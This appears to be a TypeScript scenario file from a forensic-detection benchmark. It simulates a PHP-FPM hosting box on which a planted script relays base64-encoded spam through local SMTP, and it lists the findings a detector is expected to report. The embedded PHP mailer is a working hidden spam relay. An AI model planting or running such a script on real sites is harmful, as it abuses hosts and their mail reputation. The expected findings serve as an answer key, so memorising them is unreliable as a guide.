import { nearly } from '../play/expectation.ts';
import { drawShops, startHosting } from '../play/hosting.ts';
import { smtpFunction, smtpSignup } from '../play/loopback.ts';
import { ordinaryMail, ordinaryRules, ordinaryVisits, probes } from '../play/ordinary.ts';
import { drawBody, drawSpamRun, drawSubject, inLots } from '../play/spam.ts';
import type { Stage, Story, Truth } from '../play/stage.ts';
import { after, drawMoments, drawWaves, everydayWork, partOf, play, type Happening } from '../play/timeline.ts';
import { drawVisitor, visit } from '../play/visitors.ts';
import type { ShopSite } from '../play/wordpress.ts';
import { docroot } from '../programs/apache.ts';
import { drawPlantedScript } from './planted-script.ts';

async function playFpmSmtp({ box, random, span }: Stage): Promise<Truth> {
  const sites = drawShops(random, 4);
  const [guilty, mailing, ...others] = random.shuffle(sites) as [ShopSite, ShopSite, ...ShopSite[]];
  const script = drawPlantedScript(random, guilty);
  const run = drawSpamRun(random, random.int(50, 62));
  const lots = inLots(random, run.recipients, 1, 4);
  await startHosting(box, { sites, php: 'fpm', log: 'stock', rules: new Map([...ordinaryRules(random, sites), ...run.rules]) });
  await box.write(smtpSignup(mailing), {
    path: script.path,
    owner: `${guilty.owner}:${guilty.owner}`,
    text: `<?php error_reporting(0); ${smtpFunction(random.token(6))}
if (!isset($_POST['e'])) { http_response_code(404); exit; }
foreach (explode(';', base64_decode($_POST['e'])) as $to) smtp_send($_POST['f'], $to, $_POST['s'], base64_decode($_POST['b']));
echo 'OK';
`,
  });

  const attacker = drawVisitor(random, 'Go-http-client/1.1');
  const moments = [
    ...drawWaves(random, { from: partOf(span, random.int(55, 68) / 100), to: after(span.to, -900) }, 3, lots.length - 4),
    ...drawWaves(random, { from: after(span.to, -500), to: after(span.to, -260) }, 1, 4),
  ];
  const sender = `${random.token(5)}@${random.token(6)}.example`;
  const attack = lots.map((lot, at): Happening => {
    const body = Buffer.from(drawBody(random)).toString('base64');
    const form = { e: Buffer.from(lot.join(';')).toString('base64'), s: drawSubject(random), b: body, f: sender };
    return { at: moments[at] ?? new Date(NaN), run: () => visit(box, attacker, guilty.domain, [{ path: script.url, form }]) };
  });
  const signups = drawMoments(random, span, run.recipients.length + 6).map((at): Happening => {
    const form = { user: `user${random.int(0, 39)}` };
    const visitor = drawVisitor(random);
    return { at, run: () => visit(box, visitor, mailing.domain, [{ path: '/signup.php', form }]) };
  });
  await play(box, [
    ...everydayWork(box, span),
    ...attack,
    ...signups,
    ...probes(random, guilty, span, 6),
    ...sites.flatMap((site) => [
      ...ordinaryMail(random.branch(site.domain), site, span, random.int(4, 10)),
      ...ordinaryVisits(random.branch(site.domain), site, span, random.int(4, 7)),
    ]),
  ]);

  const id = `script:${script.path}`;
  return {
    findings: [
      {
        ...{ id, natures: ['planted-script'], confidence: 'possible', active: true, proofs: ['mainlog', 'access-log'] },
        figures: { messages: nearly(run.recipients.length) },
      },
    ],
    innocents: [mailing, ...others].flatMap((site) => [docroot(site), site.domain]),
    cleared: [],
    without: [
      {
        says: 'no access logs: nothing tells who spoke from this machine',
        remove: ['var/log/nginx/*'],
        mustFind: true,
        allowed: [{ id: 'unknown:loopback-without-login', atMost: 'possible' }],
      },
      { says: 'neither logs nor queue: nothing can be said', remove: ['var/log/*', 'var/spool/exim4/*'], mustFind: false, allowed: [] },
    ],
  };
}

/** Story 12. */
export const fpmSmtp: Story = {
  id: 'fpm-smtp',
  suite: 'bookworm',
  tells: "a planted script of a PHP-FPM site that speaks SMTP to 127.0.0.1:25, beside a louder site whose plug-in does so too; Debian's stock log",
  play: playFpmSmtp,
};
